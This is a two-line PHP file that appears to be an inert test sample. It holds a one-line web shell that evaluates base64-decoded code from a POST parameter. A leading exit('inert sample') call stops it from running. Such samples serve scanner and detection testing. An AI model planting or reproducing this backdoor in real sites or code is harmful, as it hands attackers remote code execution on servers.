<?php exit('inert sample'); ?>
<?php @eval(base64_decode($_POST['x'])); ?>
